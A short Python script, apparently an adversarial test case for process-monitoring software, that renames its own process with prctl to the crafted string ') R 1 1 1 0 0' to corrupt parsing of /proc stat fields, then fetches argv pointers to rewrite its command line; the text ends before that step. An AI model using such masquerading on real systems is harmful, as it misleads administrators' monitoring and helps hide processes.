# /// attack
# title = "Takes another name, and another command line"
# ///
import ctypes


def attack():
    libc = ctypes.CDLL(None)
    libc.prctl(15, b") R 1 1 1 0 0", 0, 0, 0)
    words = ctypes.POINTER(ctypes.c_void_p)
    ctypes.pythonapi.Py_GetArgcArgv.argtypes = [ctypes.POINTER(ctypes.c_int), ctypes.POINTER(words)]
    count, arguments = ctypes.c_int(), words()
    ctypes.pythonapi.Py_GetArgcArgv(ctypes.byref(count), ctypes.byref(arguments))
